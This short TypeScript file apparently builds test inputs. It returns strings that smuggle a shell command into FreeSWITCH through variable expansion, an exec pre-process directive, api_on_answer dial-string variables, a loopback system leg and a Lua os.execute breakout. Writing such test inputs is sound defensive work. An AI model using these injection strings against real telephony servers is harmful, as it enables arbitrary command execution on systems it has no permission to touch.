/**
 * Texts in which FreeSWITCH would find this shell command, each at another spot: in a variable or an argument that it expands, in a line of
 * its files, in a dial string (before all of it, before a leg, among the variables of a leg, as a leg of its own), and among the words of a
 * Lua script.
 *
 * @param command without quotes, e.g. `touch /tmp/owned`
 */
export function smuggled(command: string): readonly string[] {
  return [
    `\${system(${command})}`,
    `<X-PRE-PROCESS cmd="exec" data="${command}"/>`,
    `{api_on_answer=system ${command}}`,
    `<api_on_answer=system ${command}>`,
    `[api_on_answer=system ${command}]`,
    `1,api_on_answer=system ${command}`,
    `1|loopback/app=system:${command}`,
    `1\\'};os.execute("${command}")--`,
  ];
}
